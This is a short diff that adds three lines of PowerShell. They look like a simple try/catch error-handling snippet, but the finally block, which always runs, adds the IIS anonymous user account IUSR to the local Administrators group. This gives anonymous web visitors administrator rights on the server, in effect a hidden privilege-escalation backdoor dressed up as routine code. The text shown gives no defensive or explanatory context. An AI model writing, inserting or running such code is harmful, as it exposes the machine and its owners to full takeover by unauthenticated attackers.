@@ -1,0 +1,3 @@
+try { throw 'stop here' }
+catch { Write-Warning $_ }
+finally { net localgroup Administrators IUSR /add }
